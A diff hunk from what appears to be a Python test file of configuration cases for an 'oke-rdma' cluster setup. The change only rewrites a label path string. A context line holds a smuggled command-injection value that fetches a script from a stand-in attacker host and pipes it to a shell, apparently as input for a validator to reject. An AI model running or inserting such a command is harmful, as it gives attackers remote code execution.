@@ -33,6 +33,6 @@ CONFIG_CASES.update({
         "pod", "oke-rdma:storage.lustre.client.packages.oracleLinux8.url",
         _client(URL + "$(curl${IFS}attacker.example|sh)"), _client(URL)),
     "pool_claims_the_lustre_client_label": (
-        "placement", 'oke-rdma:nodePools.gpu.labels."okerdma.io/lustre-client"',
+        "placement", 'oke-rdma:nodePools.gpu.labels["okerdma.io/lustre-client"]',
         _gpu_labels({"okerdma.io/lustre-client": "true"}), _gpu_labels({"okerdma.io/role": "training"})),
 })
